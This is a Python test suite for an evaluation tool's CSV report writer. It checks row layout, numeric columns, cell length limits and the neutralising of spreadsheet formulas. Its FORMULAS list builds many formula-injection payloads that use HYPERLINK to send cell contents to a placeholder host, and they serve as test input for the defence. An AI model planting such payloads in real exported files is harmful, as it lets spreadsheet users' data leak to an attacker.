"""The CSV report: a row a trial, numbers as numbers, and nothing that a spreadsheet would carry out."""

import csv
import io
import re
import unicodedata
from typing import Any

import pytest
from hypothesis import given, strategies as st

from proctor.reports.base import load_report
from proctor.reports.formats.csv import COLUMNS, LONGEST, neutral, original
from proctor.schema.evidence.trial import Failure
from proctor.schema.results.run_result import Outcome, RunResult, SetSummary
from tests.reports.generated_runs import runs
from tests.reports.hostile_texts import GROUPS, HOSTILE, everywhere, for_each_text
from tests.reports.sample_runs import P, case, good, metric, run, sketch, trial
from tests.reports.terminal.test_hostile import bad_characters


def written(*results: RunResult, form: str = "csv") -> str:
    out = io.StringIO()
    load_report(form).write(list(results), out)
    return out.getvalue()


def rows(*results: RunResult, form: str = "csv") -> list[dict[str, Any]]:
    """The rows as a program reads them that takes what is not quoted for a number."""
    text = io.StringIO(written(*results, form=form), newline="")
    return list(csv.DictReader(text, quoting=csv.QUOTE_NONNUMERIC))


# --- what is in it -----------------------------------------------------------------------------------------------------


def test_a_row_a_trial() -> None:
    found = rows(sketch(1))
    assert len(found) == sum(len(each.trials) for each in sketch(1).cases)
    row = next(row for row in found if row["eval_id"] == "two_turn_booking" and row["trial"] == 2)
    assert (row["outcome"], row["case_outcome"]) == ("failed", "failed")
    assert row["reason"].startswith("tool_trajectory_avg_score 0.70 < 0.9")
    assert (row["tool_trajectory_avg_score"], row["tool_trajectory_avg_score outcome"]) == (0.5, "failed")
    assert (row["turns"], row["duration"]) == (2, 0.5)
    assert (row["asked"], row["answered"]) == (
        "Book me a table for two tonight.\nLa Trattoria.",
        "Done.\nDone.",
    )


def test_every_row_has_every_column_also_for_metrics_that_came_late() -> None:
    late = case("late", P, metric("later_metric", [0.25]))
    found = rows(run(good("a"), late), run(good("b"), agent="other"))
    assert all(set(row) == set(found[0]) and None not in row.values() for row in found)
    assert [row["later_metric"] for row in found] == ["", 0.25, ""]
    assert [row["agent"] for row in found] == ["travel_agent", "travel_agent", "other"]
    assert list(found[0])[: len(COLUMNS)] == list(COLUMNS)


def test_a_metric_that_is_called_as_another_column_has_its_own() -> None:
    (row,) = rows(run(case("a", P, metric("outcome", [0.25], 0.1))))
    assert (row["outcome"], row["outcome score"], row["outcome score outcome"]) == ("passed", 0.25, "passed")


def test_what_has_no_trial_has_a_row() -> None:
    result = run(case("left", Outcome.SKIPPED, trials=[]), case("never", Outcome.NOT_RUN, trials=[]))
    result.sets.append(
        SetSummary("torn", "torn.json", "", 0, failure=Failure(where="file", message="no JSON"))
    )
    result.failure = Failure(where="store", message="disk full")
    found = [
        (row["eval_set_id"], row["eval_id"], row["trial"], row["outcome"], row["failure"])
        for row in rows(result)
    ]
    assert found == [
        ("booking", "left", "", "skipped", ""),
        ("booking", "never", "", "not_run", ""),
        ("torn", "", "", "error", "file raised: no JSON"),
        ("", "", "", "error", "store raised: disk full"),
    ]


@pytest.mark.nightly
@given(runs())
def test_numbers_stay_numbers_and_every_trial_is_there(result: RunResult) -> None:
    expected = [(each.eval_id, one.number, one.outcome.value) for each in result.cases for one in each.trials]
    found = [row for row in rows(result) if row["trial"] != ""]
    assert [(original(row["eval_id"]), int(row["trial"]), row["outcome"]) for row in found] == [
        (cleaned(eval_id), *rest) for eval_id, *rest in expected
    ]
    scores = [row[name] for row in found for name in row if f"{name} outcome" in row]
    assert all(score == "" or isinstance(score, float) for score in scores)


def cleaned(text: str) -> str:
    from proctor.common.safe_text import clean

    return clean(text, lines=True)


# --- formulas ----------------------------------------------------------------------------------------------------------

_STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\u2212",
    "\ufe62",
    "\ufe66",
    "\ufb29",
]
_BEFORE = ["", '"', "'", " ", "\u3000", "\u00a0", "\n", "''", '" ', "\u201c", "\ufeff", "\uff02"]
FORMULAS = [f'{before}{start}HYPERLINK("http://x/?"&A1)' for before in _BEFORE for start in _STARTS]
HARMLESS = [
    "",
    "a=b",
    "2 + 2",
    "x@y.example",
    "…",
    "'quoted'",
    "a\n=b",
    "(-1)",
    "\N{EN DASH} item",
    "0",
    "- "[1:],
]


def test_there_are_enough_of_them() -> None:
    assert len(set(FORMULAS)) >= 50


@for_each_text({"all": FORMULAS})
def test_what_a_spreadsheet_would_take_for_a_formula_is_marked_as_text(text: str) -> None:
    assert neutral(text) == f"'{text}"
    assert original(neutral(text)) == text


@for_each_text({"all": HARMLESS})
def test_other_text_is_left_alone(text: str) -> None:
    assert neutral(text) == text == original(text)


@pytest.mark.slow
def test_formula_after_folding_of_width_and_style_is_neutralised() -> None:
    folded = (
        chr(n)
        for n in range(0x110000)
        if unicodedata.normalize("NFKC", chr(n)).lstrip()[:1] in set("=+-@\u2212")
    )
    found = [sign for sign in folded if neutral(f"{sign}1+1") != f"'{sign}1+1"]
    assert found == []


@given(st.text(st.sampled_from("'\"= +-@\t\rab\uff1d"), max_size=8))
def test_no_two_texts_become_the_same(text: str) -> None:
    assert original(neutral(text)) == text


def first_sign(cell: str) -> str:
    """Return the text as a spreadsheet reads it: quotes and blanks before it are dropped, fullwidth forms folded."""
    return unicodedata.normalize("NFKC", cell).lstrip('"\u201c\u201d\u2018\u2019 \n\u3000\u00a0\ufeff`')[:1]


@pytest.mark.slow
@for_each_text({"all": FORMULAS})
def test_no_cell_of_any_column_begins_a_formula(text: str) -> None:
    for row in rows(everywhere(text), everywhere(HOSTILE[0])):
        for title, cell in row.items():
            assert first_sign(title) not in set("=+-@\t\r\u2212")
            assert not isinstance(cell, str) or first_sign(cell) not in set("=+-@\t\r\u2212")


def test_a_negative_score_is_a_number_and_no_text() -> None:
    (row,) = rows(run(case("-1", P, metric("m", [-0.5], -1.0))))
    assert (row["m"], row["eval_id"]) == (-0.5, "'-1")


def test_raw_means_without_the_apostrophe() -> None:
    result = run(case("=1+1", P, trials=[trial(0, P, answer="@SUM(A1)")]))
    assert [(row["eval_id"], row["answered"]) for row in rows(result, form="csv-raw")] == [
        ("=1+1", "@SUM(A1)")
    ]
    assert [(row["eval_id"], row["answered"]) for row in rows(result)] == [("'=1+1", "'@SUM(A1)")]


# --- other dangers -----------------------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.nightly(check=2)
@for_each_text(GROUPS)
def test_nothing_in_it_is_obeyed_by_a_terminal(text: str) -> None:
    for form in ("csv", "csv-raw"):
        assert bad_characters(written(everywhere(text), form=form), allowed="\n\t") == set()


def test_length_of_a_cell_is_within_the_limit_of_spreadsheets() -> None:
    (row,) = rows(run(case("a", P, trials=[trial(0, P, answer="x" * 100_000)])))
    assert len(row["answered"]) == LONGEST
    assert row["answered"].endswith("…")


@pytest.mark.parametrize("encoding", ["utf-8", "latin-1", "ascii"])
def test_any_stream_can_take_it(encoding: str) -> None:
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding=encoding, newline="")
    load_report("csv").write([run(case("caffè 🍕", P))], out)
    out.flush()
    assert re.search(rb'"caff\S+ \S+",0,"passed"', raw.getvalue())
